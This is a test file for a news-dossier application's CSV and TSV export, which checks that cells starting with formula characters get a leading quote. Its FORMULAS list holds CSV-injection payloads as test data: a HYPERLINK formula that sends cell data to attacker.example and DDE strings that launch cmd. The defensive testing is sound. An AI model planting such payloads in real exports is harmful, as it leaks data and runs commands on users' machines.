/**
 * Issue 20.7: no CSV or TSV export carries a live spreadsheet formula. Cells starting with = + - @ tab or CR get a
 * leading single quote (OWASP's CSV-injection guidance); plain numbers keep their sign.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { EXPORT_FORMATS, exportAs } from '../../src/app/export.js';
import { ingest } from '../../src/app/ingest.js';
import { loadDefaultResources } from '../../src/app/resources.js';
import { csvField, neutraliseFormula, toCsv, toTsv } from '../../src/export/index.js';
import { defaultStages } from '../../src/pipeline/index.js';
import { openSqliteStore } from '../../src/store/sqlite/index.js';

const FORMULAS = ['=HYPERLINK("http://attacker.example/?q="&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C notepad\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

/** True when a spreadsheet would evaluate the cell's text as a formula. */
const isLive = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i.test(cell);

test('csv › each formula-starting cell gets a leading quote and is quoted; plain numbers and ordinary text are unchanged', () => {
  for (const formula of FORMULAS) {
    assert.equal(neutraliseFormula(formula), `'${formula}`);
    assert.ok(csvField(formula).startsWith(`"'`), csvField(formula));
  }
  assert.equal(csvField(-3.25), '-3.25');
  assert.equal(csvField('-10'), '-10');
  assert.equal(csvField('+1e3'), '+1e3');
  assert.equal(csvField('Rockets struck Baghdad'), 'Rockets struck Baghdad');
  assert.equal(csvField('said "no"'), '"said ""no"""');
  const tsv = toTsv(['outlet', 'goldstein'], [{ outlet: '=1+1', goldstein: -10 }]);
  assert.equal(tsv.split('\n')[1], "'=1+1\t-10");
  assert.equal(toCsv(['a'], [{ a: ['@x', 'y'] }]).split('\r\n')[1], `"'@x; y"`);
});

test('csv › an article whose outlet, title and byline are formulas exports no live formula in any CSV or TSV', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'dossier-formula-'));
  const text = 'Government forces shelled the town of Maarat al-Numan on Monday, killing four civilians, local officials said. ' +
    'The army attacked rebel positions near Idlib, the defence ministry said in a statement issued in Damascus.';
  writeFileSync(join(dir, 'wire.jsonl'), `${JSON.stringify({ outlet: FORMULAS[0], title: FORMULAS[3], byline: FORMULAS[1], url: 'https://news.example/a', published: '2024-03-04', text })}\n`);
  const store = openSqliteStore(':memory:');
  await store.migrate();
  try {
    const summary = await ingest([dir], { store, stages: defaultStages(), resources: await loadDefaultResources() });
    assert.equal(summary.inserted, 1);
    const tables = Object.keys(EXPORT_FORMATS).filter((f) => f.endsWith('.csv') || f.endsWith('.tsv'));
    assert.ok(tables.length >= 5, tables.join(', '));
    let sawOutlet = false;
    for (const format of tables) {
      const out = await exportAs(store, format);
      sawOutlet ||= out.includes("'=HYPERLINK");
      // Cells split loosely (a quoted comma splits too): any piece that starts a cell must not be live.
      const sep = format.endsWith('.tsv') ? '\t' : ',';
      for (const line of out.split(/\r?\n/)) {
        for (const cell of line.split(sep)) assert.ok(!isLive(cell.replace(/^"/, '')), `${format}: live formula in ${JSON.stringify(cell)}`);
      }
    }
    assert.ok(sawOutlet, 'the outlet is exported, neutralised');
  } finally {
    await store.close();
  }
});
